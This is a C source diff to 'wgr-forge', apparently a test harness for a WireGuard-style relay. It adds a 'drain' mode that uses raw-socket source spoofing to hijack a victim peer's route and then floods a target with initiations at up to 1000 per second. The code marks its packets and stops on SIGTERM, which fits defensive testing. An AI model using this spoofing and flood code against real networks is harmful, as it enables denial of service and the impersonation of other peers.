@@ -124,6 +124,16 @@
  * to A, A sends the first data on it. Repeats every 5 s for SECONDS (default
  * one round). Prints how many rounds the relay passed on; exits 0.
  *
+ *   wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM SECONDS PPS
+ * A spoofer spends a real peer's stamps at a loaded target (helper-84): it
+ * stages as spoofstage does, the response "from" SPOOF_ADDR:SPOOF_PORT, where
+ * TARGET talks, so that its route from socket A ends where VICTIM's real one
+ * does; again 30 s after one passed, 5 s after one did not. In between, A initiates to TARGET PPS times a second,
+ * without mac2, along that route. Each of A's initiations (its stagings' too)
+ * has an ephemeral key that begins with the bytes de ad be ef (udp[16:4] ==
+ * 0xdeadbeef), so that a capture tells them from a real peer's. Needs
+ * CAP_NET_RAW. Prints how many stagings the relay passed on and how many
+ * initiations A sent; exits 0. SIGTERM ends it early, with its report.
  *   wgr-forge steal ADDR PORT V_ADDR V_PORT Q_ADDR Q_PORT PUB_Q PUB_V SECONDS
  *
  * A spoofer steals the pair route of V (at V_ADDR:V_PORT) to Q (at Q_ADDR:Q_PORT),
@@ -1011,7 +1021,7 @@ static int spoofer_send(struct spoofer *s, const uint8_t *payload, size_t plen)
 #define SLOT_QUEUE 64
 #define SLOT_SENT 8
 
-/* SIGTERM ends cookieslot early, with its report: a test stops it when done. */
+/* SIGTERM ends cookieslot (or drain) early, with its report: a test stops it when done. */
 static volatile sig_atomic_t slot_stop;
 
 static void slot_term(int sig)
@@ -1377,6 +1387,49 @@ static int thinflood(int argc, char **argv)
 	return 0;
 }
 
+/*
+ * An initiation from a fresh index (returned), mac1 valid for @pub, marked as
+ * drain's: its ephemeral key begins with de ad be ef. The marker goes in
+ * before mac1, which covers it.
+ */
+static uint32_t marked_initiation(uint8_t *msg, const uint8_t *pub)
+{
+	uint32_t idx = make_initiation(msg, pub);
+
+	memcpy(msg + 8, "\xde\xad\xbe\xef", 4);
+	set_mac1(msg, 116, pub);
+	return idx;
+}
+
+/*
+ * One staging of spoofstage's: socket @a initiates to @k[0] (@marked: with
+ * marked_initiation()); a response naming @k[1] goes from @s's forged source;
+ * if the relay passes it on to @a, @a sends the first data on it, and three
+ * more. Return: 1 if passed on, 0 if not, -1 if the raw socket failed.
+ */
+static int spoof_stage_once(int a, struct spoofer *s, uint8_t k[2][32], bool marked,
+			    uint8_t *msg, size_t size)
+{
+	uint32_t s_index, r_index;
+
+	s_index = marked ? marked_initiation(msg, k[0]) : make_initiation(msg, k[0]);
+	send(a, msg, 148, 0);
+	usleep(100000);
+	r_index = make_response(msg, s_index, k[1]);
+	if (spoofer_send(s, msg, 92))
+		return -1;
+	if (stage_wait(a, 2, msg, size) != 92 || get_le32(msg + 4) != r_index)
+		return 0;
+	make_data(msg, r_index, 0);
+	send(a, msg, 32, 0);
+	for (int i = 1; i <= 3; i++) {	/* and keep it warm */
+		usleep(300000);
+		make_data(msg, r_index, (uint64_t)i);
+		send(a, msg, 32, 0);
+	}
+	return 1;
+}
+
 static int spoofstage(int argc, char **argv)
 {
 	struct sockaddr_storage to;
@@ -1397,29 +1450,66 @@ static int spoofstage(int argc, char **argv)
 		return ret;
 	a = stage_socket(&to, len);
 	do {
-		uint32_t s_index, r_index;
-
 		rounds++;
-		s_index = make_initiation(msg, k[0]);
-		send(a, msg, 148, 0);
-		usleep(100000);
-		r_index = make_response(msg, s_index, k[1]);
-		if (spoofer_send(&s, msg, 92))
+		ret = spoof_stage_once(a, &s, k, false, msg, sizeof(msg));
+		if (ret < 0)
 			return 1;
-		if (stage_wait(a, 2, msg, sizeof(msg)) == 92 && get_le32(msg + 4) == r_index) {
-			make_data(msg, r_index, 0);
-			send(a, msg, 32, 0);
-			passed++;
-			for (int i = 1; i <= 3; i++) {	/* and keep it warm */
-				usleep(300000);
-				make_data(msg, r_index, (uint64_t)i);
-				send(a, msg, 32, 0);
-			}
-		}
+		passed += ret;
 		if (now_s() - start + 5 < seconds)
 			sleep(5);
 	} while (now_s() - start + 5 < seconds);
 	printf("spoofstage: %ld rounds, %ld passed on by the relay\n", rounds, passed);
+	return 0;
+}
+
+/* wgr-forge drain: see the top of this file. */
+static int drain(int argc, char **argv)
+{
+	struct sockaddr_storage to;
+	struct timespec next;
+	struct spoofer s;
+	uint8_t k[2][32], msg[1600];
+	long seconds, pps, stagings = 0, passed = 0, sent = 0;
+	double start = now_s(), restage = 0;
+	socklen_t len;
+	int a, ret;
+
+	if (argc != 10 || !(len = parse_ep(&to, argv[2], argv[3])) || !parse_keys(k, argv + 6, 2) ||
+	    (seconds = strtol(argv[8], NULL, 10)) <= 0 || seconds > 3600 ||
+	    (pps = strtol(argv[9], NULL, 10)) <= 0 || pps > 1000) {
+		fprintf(stderr, "usage: wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
+				"PUB_VICTIM SECONDS(1..3600) PPS(1..1000)\n");
+		return 2;
+	}
+	ret = spoofer_open(&s, argv[4], argv[5], argv[2], argv[3]);
+	if (ret)
+		return ret;
+	a = stage_socket(&to, len);
+	signal(SIGTERM, slot_term);
+	clock_gettime(CLOCK_MONOTONIC, &next);
+	while (!slot_stop && now_s() - start < seconds) {
+		if (now_s() >= restage) {
+			stagings++;
+			ret = spoof_stage_once(a, &s, k, true, msg, sizeof(msg));
+			if (ret < 0)
+				return 1;
+			passed += ret;
+			/* Its data keeps the session live for minutes: again in 30 s. */
+			restage = now_s() + (ret ? 30 : 5);
+			clock_gettime(CLOCK_MONOTONIC, &next);
+			continue;
+		}
+		marked_initiation(msg, k[0]);
+		if (send(a, msg, 148, 0) == 148)
+			sent++;
+		/* Whatever comes back (cookie replies, copies) is not read. */
+		while (recv(a, msg, sizeof(msg), MSG_DONTWAIT) > 0)
+			;
+		next_tick(&next, pps);
+		clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &next, NULL);
+	}
+	printf("drain: %ld stagings, %ld passed on by the relay; %ld initiations along them\n",
+	       stagings, passed, sent);
 	return 0;
 }
 
@@ -1922,6 +2012,8 @@ int main(int argc, char *argv[])
 		return thinflood(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "spoofstage"))
 		return spoofstage(argc, argv);
+	if (argc >= 2 && !strcmp(argv[1], "drain"))
+		return drain(argc, argv);
 	if (argc >= 2 && !strcmp(argv[1], "steal"))
 		return steal(argc, argv, STEAL_ROAM);
 	if (argc >= 2 && !strcmp(argv[1], "stealback"))
@@ -1988,6 +2080,8 @@ int main(int argc, char *argv[])
 				"PUBKEY\n"
 				"       wgr-forge spoofstage ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET "
 				"PUB_VICTIM [SECONDS]\n"
+				"       wgr-forge drain ADDR PORT SPOOF_ADDR SPOOF_PORT PUB_TARGET PUB_VICTIM "
+				"SECONDS PPS\n"
 				"       wgr-forge mac2junk|mac2for ADDR PORT SECONDS PPS NPORTS PUBKEY [FROM [NPREFIXES]]\n"
 				"       wgr-forge cookieprobe ADDR PORT PUBKEY [SRCPORT]\n");
 		return 2;
